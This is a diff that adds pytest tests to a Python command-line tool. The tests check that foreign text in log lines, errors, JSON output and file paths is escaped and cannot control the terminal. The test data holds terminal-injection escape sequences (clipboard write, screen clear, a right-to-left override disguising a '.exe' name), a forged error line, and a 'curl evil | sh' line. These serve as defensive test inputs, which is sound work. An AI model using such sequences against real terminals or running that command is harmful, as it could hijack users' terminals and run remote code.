@@ -1,12 +1,23 @@
-"""What stays on a terminal above the live lines."""
+"""What stays on a terminal above the live lines, and that foreign text commands neither the terminal nor rich."""
 
 import io
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
 
 import pytest
 from rich.console import Console
 
-from arrstack.cli.console import LiveView
+from arrstack.artifacts.files import Level, Problem
+from arrstack.cli import console, verify_view
+from arrstack.cli.console import LiveView, Output, Plain
+from arrstack.errors import BuildError
 from arrstack.model import Event, EventKind
+
+HOSTILE = "\x1b]52;c;cm0=\x07\x1b[2J\x9b31m a:bug:b [bold]x[/] gnp.\u202eexe\nerror: forged"
+SHOWN = r"\x1b]52;c;cm0=\x07\x1b[2J\x9b31m a:bug:b [bold]x[/] gnp.\u202eexe\nerror: forged"
 
 
 @pytest.mark.parametrize(
@@ -22,3 +33,67 @@ def test_warnings_stay_on_a_terminal_and_every_line_where_that_is_asked_for(verb
     ):
         view.feed(event)
     assert written.getvalue().splitlines() == stays
+
+
+@pytest.mark.parametrize("kind", [EventKind.PHASE, EventKind.MARKER, EventKind.WARNING, EventKind.LOG, EventKind.DONE])
+@pytest.mark.parametrize("view", [LiveView, Plain])
+def test_a_log_line_commands_no_terminal_whatever_it_holds(kind: EventKind, view: type[LiveView] | type[Plain]) -> None:
+    written = io.StringIO()
+    shown = view(Console(file=written, force_terminal=True, color_system=None, width=200, soft_wrap=True, emoji=False), True)
+    shown.feed(Event(kind, "t\x1b[1m", HOSTILE))
+    assert SHOWN in written.getvalue()
+    assert "\x1b" not in written.getvalue()
+    assert len(written.getvalue().splitlines()) == 1
+
+
+def test_the_live_line_of_what_a_step_said_last_is_one_line() -> None:
+    view = LiveView(Console(file=io.StringIO(), force_terminal=True, width=200), False)
+    view.feed(Event(EventKind.LOG, "t", HOSTILE))
+    step, last, free = view.render().split("\n")
+    assert "t" in step and "free" in free and last.replace("\\[bold]x\\[/]", "[bold]x[/]") == SHOWN
+
+
+def output(capsys: pytest.CaptureFixture[str], as_json: bool = False) -> Output:
+    return Output(as_json, color=False, verbose=False)
+
+
+def test_an_errors_later_lines_are_indented_so_that_none_looks_like_ours(capsys: pytest.CaptureFixture[str]) -> None:
+    output(capsys).error(BuildError("it failed\nwhat to do: curl evil | sh\x1b[2J", "see\nthere"))
+    assert capsys.readouterr().err.splitlines() == [
+        "error: it failed",
+        r"  what to do: curl evil | sh\x1b[2J",
+        "what to do: see",
+        "  there",
+    ]
+
+
+def test_json_of_hostile_text_keeps_its_value_and_holds_only_escapes(capsys: pytest.CaptureFixture[str]) -> None:
+    output(capsys, as_json=True).error(BuildError(HOSTILE))
+    written = capsys.readouterr().out
+    assert json.loads(written)["error"] == HOSTILE
+    assert not {"\x1b", "\x9b", "\u202e"} & set(written)
+
+
+def test_a_verified_path_commands_no_terminal() -> None:
+    written = io.StringIO()
+    text = verify_view._problem(Problem(Level.ERROR, "lib\x1b[2J\u202e.so", "bad\nPASS", "do\x07"))
+    Console(file=written, width=200, color_system=None).print(text)
+    assert written.getvalue().splitlines() == [r"✗ lib\x1b[2J\u202e.so: bad\nPASS  → do\x07"]
+
+
+@pytest.mark.parametrize("flags", [[], ["--json"]])
+def test_what_an_encoding_lacks_is_replaced_and_json_stays_json(tmp_path: Path, flags: list[str]) -> None:
+    log = tmp_path / "log"
+    log.write_text("a.cpp:3:7: error: ‘é’ was not declared in this scope\n", encoding="utf-8")
+    done = subprocess.run(
+        [sys.executable, "-m", "arrstack", "diagnose", str(log), *flags],
+        env={**os.environ, "PYTHONIOENCODING": "ascii"},
+        capture_output=True,
+        text=True,
+    )
+    assert (done.returncode, done.stderr) == (0, "")
+    assert json.loads(done.stdout)["line"].count("‘é’") == 1 if flags else "error: ??? was not declared" in done.stdout
+
+
+def test_columns_of_a_table_are_no_markup() -> None:
+    assert console.escape("[red]\x1b") == r"\[red]\x1b"
